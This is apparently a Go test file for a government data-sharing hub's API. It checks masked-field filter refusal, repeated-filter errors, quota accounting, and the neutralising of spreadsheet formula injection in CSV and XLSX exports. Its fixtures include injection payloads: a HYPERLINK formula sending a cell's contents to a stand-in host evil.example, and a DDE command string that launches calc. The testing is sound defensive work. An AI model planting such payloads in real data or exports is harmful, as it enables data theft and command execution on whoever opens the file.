package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/xiangyang-gov/sharehub/catalog"
	"github.com/xiangyang-gov/sharehub/exchange"
	"github.com/xiangyang-gov/sharehub/internal/db/dbtest"
	"github.com/xiangyang-gov/sharehub/internal/hub/hubtest"
)

// registeredItem makes a people item registered for 民政局's app under an
// unconditional grant of every field ("*": name and sfzh shown masked) and
// puts records with the given keys and data straight into its dataset.
func registeredItem(t *testing.T, h *hubtest.Hub, name string, recs map[string]string) catalog.Item {
	t.Helper()
	it := peopleItem(t, h, name, catalog.ShareUnconditional)
	var app exchange.Application
	h.Do(t, "POST", "/v1/applications", h.AppKey, exchange.NewApplication{ItemCode: it.Code, Purpose: "户籍核验", ValidUntil: time.Now().AddDate(0, 1, 0)}).
		Want(t, http.StatusCreated).JSON(t, &app)
	if app.Status != exchange.AppApproved {
		t.Fatalf("registration: %+v", app)
	}
	for k, data := range recs {
		if _, err := h.DB.W.ExecContext(context.Background(), `INSERT INTO dataset_records (item_code, record_key, version, hash, deleted, data, run_id, updated_at)
			VALUES ($1, $2, 1, 1, 0, $3, 'run_test', $4)`, it.Code, k, data, time.Now().UnixMicro()); err != nil {
			t.Fatal(err)
		}
	}
	return it
}

// TestDataFilterOnMaskedFieldRefused: a field the grant shows only
// masked (a personal field under "*") cannot be used as a filter, or
// f.sfzh=<a full identity number> would tell whether that person is in
// the dataset although the caller never sees the number in clear.
func TestDataFilterOnMaskedFieldRefused(t *testing.T) {
	for _, b := range dbtest.Backends {
		t.Run(string(b), func(t *testing.T) {
			h := hubtest.Start(t, b)
			it := registeredItem(t, h, "人口基础信息（过滤）", map[string]string{
				"P1": `{"id":"P1","name":"张三","sfzh":"420602199001010002","address":"襄阳市樊城区1号"}`,
			})
			purpose := "X-Purpose: 户籍核验"
			data := "/v1/data/" + it.Code + "/records"
			for _, q := range []string{"?f.sfzh=420602199001010002", "?f.sfzh=420602199001010003", "?f.name=张三", "?f.id=P1&f.sfzh=420602199001010002", "?fields=sfzh&f.sfzh=420602199001010002"} {
				r := h.Do(t, "GET", data+q, h.AppKey, nil, purpose)
				if r.Status != http.StatusForbidden {
					t.Fatalf("%s: status %d, want 403: %s", q, r.Status, r.Body)
				}
				if p := r.Problem(t); !strings.Contains(p["detail"].(string), "masked") || strings.Contains(string(r.Body), "420602199001010002") {
					t.Fatalf("%s: %v", q, p)
				}
			}
			// A field granted in clear still filters.
			var page dataResp
			h.Do(t, "GET", data+"?f.id=P1", h.AppKey, nil, purpose).Want(t, http.StatusOK).JSON(t, &page)
			if len(page.Records) != 1 || page.Records[0].Data["sfzh"] != "420602********0002" {
				t.Fatalf("page: %+v", page)
			}
		})
	}
}

// TestDataRepeatedFilterRefused: f.id=A&f.id=B is refused with a 400
// naming the parameter, not answered as if only f.id=A had been given.
func TestDataRepeatedFilterRefused(t *testing.T) {
	for _, b := range dbtest.Backends {
		t.Run(string(b), func(t *testing.T) {
			h := hubtest.Start(t, b)
			it := registeredItem(t, h, "人口基础信息（重复）", map[string]string{
				"P1": `{"id":"P1","address":"a"}`, "P2": `{"id":"P2","address":"b"}`,
			})
			p := h.Do(t, "GET", "/v1/data/"+it.Code+"/records?f.id=P1&f.id=P2", h.AppKey, nil, "X-Purpose: 户籍核验").Want(t, http.StatusBadRequest).Problem(t)
			es, _ := p["errors"].([]any)
			if len(es) != 1 || es[0].(map[string]any)["pointer"] != "?f.id" {
				t.Fatalf("problem: %v", p)
			}
		})
	}
}

// TestDataExportFormulaInjection: a CSV export does not hand a
// spreadsheet cells it would run as formulas (values from the upstream
// system, keys included); plain numbers stay numbers; the xlsx export
// writes such values as text, never as formulas.
func TestDataExportFormulaInjection(t *testing.T) {
	for _, b := range dbtest.Backends {
		t.Run(string(b), func(t *testing.T) {
			h := hubtest.Start(t, b)
			it := registeredItem(t, h, "人口基础信息（导出）", map[string]string{
				"=1+1":  `{"id":"=1+1","address":"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"}`,
				"K2":    `{"id":"K2","address":"+cmd|' /C calc'!A0"}`,
				"K3":    `{"id":"K3","address":"-2+3"}`,
				"K4":    `{"id":"K4","address":"@SUM(1,2)"}`,
				"K5":    `{"id":"K5","address":"\tx"}`,
				"K6":    `{"id":"K6","address":-5}`,
				"K7":    `{"id":"K7","address":"襄阳市=1号"}`,
				"K8":    `{"id":"K8","address":"-12.5"}`,
				"plain": `{"id":"plain","address":""}`,
			})
			purpose := "X-Purpose: 户籍核验"
			resp := h.Do(t, "GET", "/v1/data/"+it.Code+"/export?format=csv&fields=id,address", h.AppKey, nil, purpose).Want(t, http.StatusOK)
			body, bom := bytes.CutPrefix(resp.Body, []byte("\ufeff"))
			if !bom {
				t.Errorf("the CSV export does not begin with a byte order mark (Excel on Chinese Windows reads it as GBK)")
			}
			rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			want := map[string][]string{
				"'=1+1": {"'=1+1", `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
				"K2":    {"K2", "'+cmd|' /C calc'!A0"},
				"K3":    {"K3", "'-2+3"},
				"K4":    {"K4", "'@SUM(1,2)"},
				"K5":    {"K5", "'\tx"},
				"K6":    {"K6", "-5"},
				"K7":    {"K7", "襄阳市=1号"},
				"K8":    {"K8", "-12.5"},
				"plain": {"plain", ""},
			}
			if len(rows) != 1+len(want) || strings.Join(rows[0], ",") != "key,id,address" {
				t.Fatalf("export: %q", rows)
			}
			for _, r := range rows[1:] {
				w, ok := want[r[0]]
				if !ok || r[1] != w[0] || r[2] != w[1] {
					t.Errorf("row %q, want %q", r, w)
				}
			}
			resp = h.Do(t, "GET", "/v1/data/"+it.Code+"/export?format=xlsx&fields=id,address", h.AppKey, nil, purpose).Want(t, http.StatusOK)
			f, err := excelize.OpenReader(bytes.NewReader(resp.Body))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			xrows, err := f.GetRows("Sheet1")
			if err != nil || len(xrows) != 1+len(want) {
				t.Fatalf("xlsx rows %q: %v", xrows, err)
			}
			for i := range xrows {
				for j := range xrows[i] {
					cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
					if fm, _ := f.GetCellFormula("Sheet1", cell); fm != "" {
						t.Errorf("xlsx cell %s is a formula: %q", cell, fm)
					}
				}
			}
			if xrows[1][0] != "=1+1" {
				t.Errorf("xlsx text changed: %q", xrows[1])
			}
		})
	}
}

// A value longer than an xlsx cell holds is refused in xlsx (excelize
// would cut it short without a word) and exported whole as csv.
func TestDataExportLongValue(t *testing.T) {
	h := hubtest.Start(t, dbtest.Backends[0])
	long := strings.Repeat("襄", excelize.TotalCellChars+1)
	it := registeredItem(t, h, "人口基础信息（长值）", map[string]string{"K1": `{"id":"K1","address":"` + long + `"}`})
	purpose := "X-Purpose: 户籍核验"
	pb := h.Do(t, "GET", "/v1/data/"+it.Code+"/export?format=xlsx&fields=id,address", h.AppKey, nil, purpose).Want(t, http.StatusBadRequest).Problem(t)
	if d := fmt.Sprint(pb["detail"]); !strings.Contains(d, "address") || !strings.Contains(d, "csv") {
		t.Errorf("detail %q", d)
	}
	resp := h.Do(t, "GET", "/v1/data/"+it.Code+"/export?format=csv&fields=id,address", h.AppKey, nil, purpose).Want(t, http.StatusOK)
	if !strings.Contains(string(resp.Body), long) {
		t.Error("csv export cut the value")
	}
}

// A call refused for what is wrong with the request itself (a bad limit,
// time or cursor, a repeated filter, too many keys) does not use the
// grant's daily quota.
func TestDataBadRequestKeepsQuota(t *testing.T) {
	h := hubtest.Start(t, dbtest.Backends[0])
	it := registeredItem(t, h, "人口基础信息（配额）", map[string]string{"P1": `{"id":"P1","name":"张三","sfzh":"420602199001010002","address":"襄阳市樊城区1号"}`})
	wjw := key(t, h, "xy-wjw", "wjw-quota-app", exchange.RoleApp)
	h.Do(t, "POST", "/v1/grants", h.Admin, exchange.NewGrant{ConsumerDepartmentID: "xy-wjw", ResourceKind: exchange.ResourceCatalogItem, ResourceID: it.Code,
		Fields: []string{"id", "address"}, Purpose: "户籍核验", ValidUntil: time.Now().AddDate(0, 1, 0), DailyQuota: 1}).Want(t, http.StatusCreated)
	purpose := "X-Purpose: 户籍核验"
	data := "/v1/data/" + it.Code + "/records"
	for _, q := range []string{"?limit=0", "?changed_since=yesterday", "?f.id=P1&f.id=P2", "?key=" + strings.Repeat("&key=K", 101)} {
		h.Do(t, "GET", data+q, wjw, nil, purpose).Want(t, http.StatusBadRequest).Problem(t)
	}
	for _, q := range []string{"?limit=0", "?cursor=-1"} {
		h.Do(t, "GET", data+"/P1/versions"+q, wjw, nil, purpose).Want(t, http.StatusBadRequest).Problem(t)
	}
	h.Do(t, "GET", data+"?key=P1", wjw, nil, purpose).Want(t, http.StatusOK)
	if r := h.Do(t, "GET", data+"?key=P1", wjw, nil, purpose); r.Status < 400 {
		t.Fatalf("a second call within a quota of one: %d", r.Status)
	}
}
